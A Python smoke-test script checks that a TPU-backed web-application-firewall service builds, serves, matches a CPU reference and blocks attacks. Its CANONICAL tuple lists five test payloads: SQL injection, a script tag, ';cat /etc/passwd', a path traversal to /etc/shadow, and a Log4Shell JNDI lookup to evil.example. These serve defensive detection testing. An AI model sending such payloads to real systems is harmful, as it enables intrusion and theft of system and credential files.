#!/usr/bin/env python3
"""Does the served detection path run on the chip, and answer right?

    python chip_smoke.py [--lanes N|auto] [--seed S]

Run from the root of a checkout, on a machine with one accelerator (or
``--lanes auto`` on a host with several).  Phases, each fatal:

1. **build** — ``make -B`` of the C++ sidecar and the native
   strict-grammar twin from the committed sources.
2. **serve** — ``python -m ingress_plus_tpu.serve`` with its defaults
   (bundled pack, block mode, --max-batch 256, warm-up on, --scan-impl
   auto) as the ONE process that holds the chip, the C++ sidecar in
   front of it.  The server states its device before any other work;
   anything but ``tpu`` stops the smoke there.  The sidecar's own
   fail-open deadline is lifted from its 50 ms default to 5 s, as the
   repo's e2e tests do: this script judges answers, not latency, and a
   verdict synthesized by the sidecar cannot be compared with the
   reference.  How many round trips would have missed 50 ms is
   printed.
3. **traffic** — a few hundred requests made from ``--seed``
   (generate_corpus traffic, the five canonical attack payloads, bodies
   sized to land a scan row in each of the six L tiers) through the
   sidecar on the UDS protocol; then /readyz, /healthz, /metrics:
   nothing in the window may have been answered by a fallback.
4. **reference** — every verdict equals the confirm-only CPU walk
   (``DetectionPipeline.detect_cpu_only``) of the same frames, computed
   by a child pinned to CPU: same attack flag, same blocked flag, same
   rule ids.
5. **parity** — after the server has exited and released the chip, a
   second chip-holding child compiles every member of ``SCAN_IMPLS``
   (the lowerings ``pair`` and ``take``, the unserved byte kernel
   ``pallas``) at the bundled pack's geometry, at every (rows, L) tier
   the serve path can dispatch, and checks match words bit for bit
   against ``ops/scan.py scan_bytes`` on the device (ops/parity.py).

This parent never imports JAX: a parent that touches it holds the chip
its children need.  Timings printed here are set-up facts, not records.
The last stdout line on success is
``{"ok": true, "device": {"platform": ..., "kind": ..., "count": ...}}``.

``CHIP_SMOKE_REHEARSAL=1`` rehearses the same phases on CPU at a tiny
size to debug the script without a chip; it never prints the ``ok``
line.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path

REPO = Path(__file__).resolve().parent
REHEARSAL = os.environ.get("CHIP_SMOKE_REHEARSAL") == "1"
L_TIERS = (64, 128, 256, 512, 2048, 16384)
#: the driver's limit is 1200 s; stop ourselves first, children included
BUDGET_S = 1150.0
T_START = time.monotonic()

#: the verify skill's canonical payloads, one per attack class
CANONICAL = ("1' UNION SELECT password FROM users--",
             "<script>alert(1)</script>", ";cat /etc/passwd",
             "../../etc/shadow", "${jndi:ldap://evil.example/a}")


class SmokeFailure(Exception):
    pass


def say(msg: str) -> None:
    print("[smoke %6.1fs] %s" % (time.monotonic() - T_START, msg),
          flush=True)


def left() -> float:
    return BUDGET_S - (time.monotonic() - T_START)


def check(cond: bool, what: str) -> None:
    if not cond:
        raise SmokeFailure(what)


# ------------------------------------------------------------- requests

def make_requests(seed: int, n_corpus: int):
    """The request set, from ``seed``: parent and reference child build
    it independently and must agree byte for byte."""
    import random
    from urllib.parse import quote

    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.utils.corpus import generate_corpus

    reqs = [lr.request for lr in generate_corpus(
        n=n_corpus, attack_fraction=0.2, seed=seed)]
    for payload in CANONICAL:
        reqs.append(Request(
            method="GET", uri="/search?q=" + quote(payload, safe=""),
            headers={"host": "smoke.example", "user-agent": "chip-smoke"}))
    rng = random.Random(seed)
    words = ["alpha", "bravo", "delta", "tango", "report", "monthly",
             "invoice", "total", "window", "garden", "planet", "silver"]
    for size in (40, 100, 200, 400, 1500, 9000):
        filler = bytearray()
        while len(filler) < size:
            filler += (rng.choice(words) + " ").encode()
        for tail in (b"", b" 1' UNION SELECT password FROM users--"):
            reqs.append(Request(
                method="POST", uri="/upload",
                headers={"host": "smoke.example",
                         "content-type": "text/plain"},
                body=bytes(filler[:size]) + tail))
    return reqs


def frames_for(reqs) -> list:
    from ingress_plus_tpu.serve.protocol import encode_request

    return [encode_request(r, req_id=i + 1) for i, r in enumerate(reqs)]


# ------------------------------------------------------ child: reference

def child_oracle(seed: int, n_corpus: int, out: str) -> None:
    """CPU-pinned: the confirm-only walk of exactly the frames the
    server receives."""
    from ingress_plus_tpu.utils.platform import device_block

    dev = device_block()
    check(dev["platform"] == "cpu",
          "reference child must run on CPU, got %s" % dev)
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.protocol import decode_request

    pipe = DetectionPipeline(compile_ruleset(load_bundled_rules()),
                             mode="block", fail_open=False)
    decoded = []
    for frame in frames_for(make_requests(seed, n_corpus)):
        req_id, mode, request = decode_request(frame[8:])
        request.mode = mode
        decoded.append((req_id, request))
    expected = {}
    for i in range(0, len(decoded), 16):
        part = decoded[i:i + 16]
        for (req_id, _), v in zip(
                part, pipe.detect_cpu_only([r for _, r in part])):
            check(not v.fail_open, "reference failed open on %d" % req_id)
            expected[str(req_id)] = {"attack": v.attack,
                                     "blocked": v.blocked,
                                     "rule_ids": list(v.rule_ids)}
    Path(out).write_text(json.dumps(expected))
    print("reference: %d verdicts on %s" % (len(expected), dev),
          flush=True)


# --------------------------------------------------------- child: parity

def child_parity(max_batch: int) -> None:
    """Chip-holding: every member of SCAN_IMPLS, compiled, against
    ops/scan.py scan_bytes at every tier the serve path can dispatch."""
    from ingress_plus_tpu.utils.platform import (
        device_block,
        enable_compile_cache,
    )

    enable_compile_cache()
    dev = device_block()
    print("parity: device %s" % json.dumps(dev), flush=True)
    check(REHEARSAL or dev["platform"] == "tpu",
          "parity phase needs a TPU, JAX reports %s" % dev)
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.ops.parity import engine_parity, failed

    pipe = DetectionPipeline(compile_ruleset(load_bundled_rules()))
    shapes = sorted({b for buckets, _q in pipe.warm_signatures(max_batch)
                     for b in buckets})
    if REHEARSAL:     # the interpreted kernel takes minutes at long tiers
        shapes = [s for s in shapes if s[0] <= 16 and s[1] <= 128]
    t0 = time.monotonic()
    results = engine_parity(pipe.engine, shapes,
                            workers=min(8, os.cpu_count() or 1))
    for impl, cases in results.items():
        bad = failed(cases) + [c for c in cases if not c["non_vacuous"]]
        print("parity: %-8s %3d (rows, L) tiers %s  [platform=%s "
              "device_kind=%s device_count=%d]"
              % (impl, len(cases),
                 "bit-identical to ops/scan.py" if not bad
                 else "DIVERGED at %s" % [(c["B"], c["L"]) for c in bad],
                 dev["platform"], dev["device_kind"],
                 dev["device_count"]), flush=True)
    print("parity: %d implementations x %d tiers, rows %d..%d, compiled for "
          "%s, %.1fs (set-up time, not a record)"
          % (len(results), len(shapes), shapes[0][0], shapes[-1][0],
             dev["platform"], time.monotonic() - t0), flush=True)
    check(all(not failed(c) and all(x["non_vacuous"] for x in c)
              for c in results.values()),
          "a scan implementation diverged from ops/scan.py scan_bytes")


# ------------------------------------------------------------ the parent

def require_checkout() -> None:
    for rel in ("ingress_plus_tpu/serve/server.py",
                "native/sidecar/Makefile", "native/confirm/Makefile"):
        check((REPO / rel).exists(),
              "%s is missing: run from the root of a checkout" % rel)


def build_native() -> None:
    for d in ("native/sidecar", "native/confirm"):
        subprocess.run(["make", "-B", "-C", str(REPO / d)], check=True,
                       stdout=subprocess.DEVNULL, timeout=300)
    say("built native/sidecar/{sidecar,loadgen} and "
        "native/confirm/libiptdetect.so from source")


def child_env(**extra) -> dict:
    env = dict(os.environ)
    env["PYTHONPATH"] = str(REPO) + os.pathsep + env.get("PYTHONPATH", "")
    env.pop("IPT_NO_NATIVE_CONFIRM", None)
    if REHEARSAL:
        env["JAX_PLATFORMS"] = "cpu"
    env.update(extra)
    return env


def cache_entries() -> tuple:
    d = Path(os.environ.get("JAX_COMPILATION_CACHE_DIR")
             or REPO / ".jax_cache")
    return str(d), (sum(1 for _ in d.iterdir()) if d.is_dir() else 0)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def tail(path: Path, n: int = 40) -> str:
    try:
        return "\n".join(path.read_text(errors="replace")
                         .splitlines()[-n:])
    except OSError:
        return "(no log)"


def wait_for(what: str, probe, proc, log: Path, timeout: float):
    """Poll ``probe()`` until truthy; the child dying, or the clock,
    fails the smoke with the child's last words."""
    deadline = time.monotonic() + min(timeout, max(left(), 1.0))
    while time.monotonic() < deadline:
        got = probe()
        if got:
            return got
        if proc.poll() is not None:
            raise SmokeFailure("%s: process exited %d\n%s"
                               % (what, proc.returncode, tail(log)))
        time.sleep(0.2)
    raise SmokeFailure("%s: not within %.0fs\n%s"
                       % (what, timeout, tail(log)))


def sock_accepts(path: str) -> bool:
    if not os.path.exists(path):
        return False
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(path)
        return True
    except OSError:
        return False


def http_json(port: int, path: str):
    try:
        with urllib.request.urlopen(
                "http://127.0.0.1:%d%s" % (port, path), timeout=10) as r:
            return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"{}")


def metrics(port: int):
    """/metrics decoded by the repo's own exposition parser."""
    from ingress_plus_tpu.utils.promparse import parse_exposition

    with urllib.request.urlopen(
            "http://127.0.0.1:%d/metrics" % port, timeout=10) as r:
        exp = parse_exposition(r.read().decode())
    check(not exp.errors, "/metrics does not parse: %s" % exp.errors[:3])
    return exp


def drive(side_sock: str, frames: list, window: int) -> dict:
    """Send ``frames`` through the sidecar with at most ``window`` in
    flight; returns {req_id: decoded response}.  Every request must be
    answered exactly once."""
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC,
        FrameReader,
        decode_response,
    )

    got: dict = {}
    sent_at: dict = {}
    reader = FrameReader(RESP_MAGIC)
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(60)
        s.connect(side_sock)
        sent = 0
        while len(got) < len(frames):
            while sent < len(frames) and sent - len(got) < window:
                (req_id,) = struct.unpack_from("<Q", frames[sent], 8)
                sent_at[req_id] = time.monotonic()
                s.sendall(frames[sent])
                sent += 1
            data = s.recv(1 << 16)
            check(bool(data), "sidecar closed the connection after %d "
                              "of %d verdicts" % (len(got), len(frames)))
            for payload in reader.feed(data):
                r = decode_response(payload)
                check(r["req_id"] not in got,
                      "two verdicts for request %d" % r["req_id"])
                r["ms"] = (time.monotonic() - sent_at[r["req_id"]]) * 1e3
                got[r["req_id"]] = r
    return got


def stop(proc, name: str, log: Path) -> None:
    """SIGTERM, then wait: the chip is free only once the process is
    gone."""
    if proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=30)
            raise SmokeFailure("%s ignored SIGTERM for 60s\n%s"
                               % (name, tail(log)))


def check_served_clean(port: int, before: dict, lanes: str) -> dict:
    """/readyz, /healthz, /metrics after the window: every request was
    answered by the device path, none by a fallback."""
    status, ready = http_json(port, "/readyz")
    check(status == 200 and ready.get("ready") is True,
          "/readyz says %s %s" % (status, ready))
    _, health = http_json(port, "/healthz")
    rob = health["robustness"]
    after = metrics(port)

    def moved(name: str, **labels) -> float:
        return (after.counter_total(name, **labels)
                - before.counter_total(name, **labels))

    facts = {
        "ipt_fail_open_total": after.value("ipt_fail_open_total"),
        "ipt_shed_total": after.counter_total("ipt_shed_total"),
        "ipt_cpu_fallback_batches_total":
            after.value("ipt_cpu_fallback_batches_total"),
        # the unlabeled aggregate leads its device= twins
        "ipt_breaker_trips_total": after.value("ipt_breaker_trips_total"),
        "robustness.hangs": rob["hangs"],
        "watchdog_released": rob["watchdog_released"],
        "degraded_verdicts": rob["degraded_verdicts"],
        "ipt_engine_recompiles_total moved by":
            moved("ipt_engine_recompiles_total"),
        # JAX's own compile event: eager per-shape programs included
        "ipt_xla_compiles_total moved by": moved("ipt_xla_compiles_total"),
    }
    say("after the window: " + ", ".join(
        "%s=%g" % kv for kv in facts.items()))
    for name, value in facts.items():
        check(value == 0, "%s is %g, expected 0" % (name, value))
    for lane in rob["lanes"]:
        check(lane["breaker"]["state"] == "closed",
              "lane %s breaker is %s" % (lane["lane"],
                                         lane["breaker"]["state"]))
    check(rob["ladder"]["mode"] == "full",
          "brownout ladder at %s" % rob["ladder"]["mode"])
    check(not rob["thread_uncaught"],
          "uncaught thread exceptions: %s" % rob["thread_uncaught"])
    twin = rob["confirm_plane"]["strict_grammar_twin"]
    check(twin == "native", "strict-grammar twin served is %s" % twin)
    rows = {L: moved("ipt_bucket_rows_total", bucket=str(L))
            for L in L_TIERS}
    say("scan rows per L tier: %s; strict-grammar twin: %s"
        % (rows, twin))
    for L, n in rows.items():
        check(n > 0, "no scan row reached the L=%d tier" % L)
    path = rob["device_path"]
    say("served scan_impl=%s" % path["scan_impl"])
    if lanes != "1":
        devs = path["lane_devices"]
        say("lane devices: %s" % devs)
        check(len(devs) > 1 and len(set(devs)) == len(devs)
              and "default" not in devs,
              "lanes are not on distinct devices: %s" % devs)
        check(len(devs) == path["device_count"] or lanes != "auto",
              "--lanes auto made %d lanes on %d devices"
              % (len(devs), path["device_count"]))
        per_lane = {"device=%s" % smp.labels["device"]: smp.value
                    for smp in after.samples
                    if smp.name == "ipt_lane_requests_total"}
        say("requests per lane: %s" % per_lane)
        check(len(per_lane) == len(devs) and all(
            v > 0 for v in per_lane.values()),
            "a lane served no request: %s" % per_lane)
    return path


def run(args) -> dict:
    require_checkout()
    sys.path.insert(0, str(REPO))
    build_native()
    cache_dir, n_before = cache_entries()
    n_corpus = 24 if REHEARSAL else 256
    tmp = Path(tempfile.mkdtemp(prefix="chip_smoke_"))
    srv_sock, side_sock = str(tmp / "srv.sock"), str(tmp / "side.sock")
    port = free_port()
    procs = []   # (popen, name, log) — everything we start, we stop
    try:
        # the reference walks on CPU; it needs no chip and overlaps the
        # server's start-up
        oracle_log = tmp / "oracle.log"
        oracle = subprocess.Popen(
            [sys.executable, str(REPO / "chip_smoke.py"), "--child",
             "oracle", "--seed", str(args.seed), "--n-corpus",
             str(n_corpus), "--out", str(tmp / "expected.json")],
            env=child_env(JAX_PLATFORMS="cpu"), cwd=str(REPO),
            stdout=oracle_log.open("w"), stderr=subprocess.STDOUT)
        procs.append((oracle, "reference child", oracle_log))

        srv_log = tmp / "serve.log"
        cmd = [sys.executable, "-m", "ingress_plus_tpu.serve",
               "--socket", srv_sock, "--http-port", str(port)]
        if args.lanes != "1":
            cmd += ["--lanes", args.lanes]
        if REHEARSAL:
            cmd += ["--max-batch", "8"]
        t_srv = time.monotonic()
        server = subprocess.Popen(
            cmd, env=child_env(), cwd=str(REPO),
            stdout=subprocess.DEVNULL, stderr=srv_log.open("w"))
        procs.append((server, "server", srv_log))

        def device_line():
            for line in srv_log.read_text(errors="replace").splitlines():
                if line.startswith("device: "):
                    return json.loads(
                        line[len("device: "):].split("  compile_cache=")[0])
            return None

        device = wait_for("server device report", device_line, server,
                          srv_log, timeout=300)
        say("server reports platform=%(platform)s device_kind="
            "%(device_kind)s device_count=%(device_count)d" % device)
        check(REHEARSAL or device["platform"] == "tpu",
              "no accelerator: the server runs on %s" % device)
        wait_for("server socket", lambda: sock_accepts(srv_sock), server,
                 srv_log, timeout=1000)
        _, n_started = cache_entries()
        say("server up after %.1fs of set-up (compile cache %s: %d "
            "entries before, %d now) — set-up time, not a record"
            % (time.monotonic() - t_srv, cache_dir, n_before, n_started))
        for line in srv_log.read_text(errors="replace").splitlines():
            if line.startswith(("warmup:", "scan impl auto-select:",
                                "lane serving:")):
                say("server: " + line)

        side_log = tmp / "sidecar.log"
        side_port = free_port()
        sidecar = subprocess.Popen(
            [str(REPO / "native/sidecar/sidecar"), "--listen", side_sock,
             "--upstream", srv_sock, "--deadline-ms", "5000",
             "--status-port", str(side_port)],
            stdout=subprocess.DEVNULL, stderr=side_log.open("w"))
        procs.append((sidecar, "sidecar", side_log))
        wait_for("sidecar socket", lambda: sock_accepts(side_sock),
                 sidecar, side_log, timeout=30)

        reqs = make_requests(args.seed, n_corpus)
        frames = frames_for(reqs)
        before = metrics(port)
        t0 = time.monotonic()
        got = drive(side_sock, frames[:n_corpus], window=32)
        # the canonical payloads and the tier-sized bodies go one at a
        # time: each verdict is then one dispatch's own answer
        got.update(drive(side_sock, frames[n_corpus:], window=1))
        say("%d requests answered through sidecar -> serve in %.1fs; "
            "slowest round trip %.0f ms at 32 in flight, %.0f ms one at "
            "a time; %d of %d round trips took longer than the "
            "sidecar's default 50 ms fail-open deadline (not records)"
            % (len(got), time.monotonic() - t0,
               max(got[i + 1]["ms"] for i in range(n_corpus)),
               max(got[i + 1]["ms"]
                   for i in range(n_corpus, len(frames))),
               sum(1 for r in got.values() if r["ms"] > 50.0), len(got)))
        check(len(got) == len(frames), "lost verdicts")
        path = check_served_clean(port, before, args.lanes)
        # the sidecar's own fallbacks, which no server counter sees
        _, side = http_json(side_port, "/")
        side_facts = {k: side[k] for k in (
            "fail_open_deadline", "fail_open_upstream",
            "fail_open_overload", "late_responses", "bad_frames")}
        say("sidecar: forwarded=%d responses=%d %s"
            % (side["forwarded"], side["responses"], side_facts))
        check(side["forwarded"] == len(frames) == side["responses"]
              and not any(side_facts.values()),
              "the sidecar answered for the server: %s" % side)
        failed_open = [i for i, r in got.items() if r["fail_open"]]
        check(not failed_open, "verdicts carry the fail-open flag: %s"
              % failed_open[:10])
        stop(sidecar, "sidecar", side_log)
        stop(server, "server", srv_log)
        check(server.returncode == 0,
              "server exited %d on SIGTERM\n%s"
              % (server.returncode, tail(srv_log)))
        say("server stopped; the chip is free")

        # ---- reference: device verdicts == confirm-only CPU walk
        oracle.wait(timeout=max(left(), 1.0))
        check(oracle.returncode == 0,
              "reference child failed\n%s" % tail(oracle_log))
        say(tail(oracle_log, 1))
        expected = json.loads((tmp / "expected.json").read_text())
        check(len(expected) == len(frames), "reference lost requests")
        diff = []
        for req_id, want in expected.items():
            r = got[int(req_id)]
            have = {"attack": r["attack"], "blocked": r["blocked"],
                    "rule_ids": r["rule_ids"]}
            if have != want:
                diff.append((int(req_id), want, have))
        n_attack = sum(1 for w in expected.values() if w["attack"])
        n_blocked = sum(1 for w in expected.values() if w["blocked"])
        say("verdicts vs the confirm-only CPU reference: %d compared, "
            "%d differ (reference: %d attacks, %d blocked)"
            % (len(expected), len(diff), n_attack, n_blocked))
        check(not diff, "verdicts differ from the reference: %s"
              % diff[:5])
        check(n_attack >= len(CANONICAL) and n_blocked > 0,
              "the reference flagged too little for the comparison to "
              "mean anything")
        for i in range(n_corpus, n_corpus + len(CANONICAL)):
            check(got[i + 1]["attack"] and got[i + 1]["blocked"],
                  "canonical payload %r was not blocked"
                  % CANONICAL[i - n_corpus])

        # ---- parity: the second, and only other, chip-holding child
        parity_log = tmp / "parity.log"
        parity = subprocess.Popen(
            [sys.executable, str(REPO / "chip_smoke.py"), "--child",
             "parity", "--max-batch", "8" if REHEARSAL else "256"],
            env=child_env(), cwd=str(REPO),
            stdout=parity_log.open("w"), stderr=subprocess.STDOUT)
        procs.append((parity, "parity child", parity_log))
        try:
            parity.wait(timeout=max(left(), 1.0))
        except subprocess.TimeoutExpired:
            raise SmokeFailure("parity phase ran out of time\n%s"
                               % tail(parity_log))
        for line in parity_log.read_text(errors="replace").splitlines():
            if line.startswith("parity:"):
                say(line)
        check(parity.returncode == 0,
              "parity child failed\n%s" % tail(parity_log))
        check("jax" not in sys.modules, "the parent imported JAX")
        return {"platform": device["platform"],
                "kind": device["device_kind"],
                "count": device["device_count"],
                "scan_impl": path["scan_impl"]}
    except BaseException:
        # the children's last words go with the failure; re-raised
        for _proc, name, log in procs:
            print("---- %s log (tail)\n%s" % (name, tail(log, 25)),
                  file=sys.stderr)
        raise
    finally:
        for proc, name, log in reversed(procs):
            if proc.poll() is None:
                proc.kill()
                proc.wait(timeout=30)


def out_of_time(signum, frame) -> None:
    raise SmokeFailure("out of time (%.0fs)" % BUDGET_S)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--lanes", default="1",
                    help="passed to the server when not 1 (e.g. auto)")
    ap.add_argument("--seed", type=int, default=20260926)
    ap.add_argument("--child", choices=["oracle", "parity"])
    ap.add_argument("--n-corpus", type=int, default=256)
    ap.add_argument("--max-batch", type=int, default=256)
    ap.add_argument("--out")
    args = ap.parse_args()
    if args.child:
        sys.path.insert(0, str(REPO))
        if args.child == "oracle":
            child_oracle(args.seed, args.n_corpus, args.out)
        else:
            child_parity(args.max_batch)
        return 0
    signal.signal(signal.SIGALRM, out_of_time)
    signal.alarm(int(BUDGET_S))
    facts = run(args)
    signal.alarm(0)
    if REHEARSAL:
        print(json.dumps({"rehearsal": True, "passed": True,
                          "device": facts}))
        return 0
    say("every phase passed (scan_impl=%s)" % facts["scan_impl"])
    print(json.dumps({"ok": True, "device": {
        "platform": facts["platform"], "kind": facts["kind"],
        "count": facts["count"]}}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
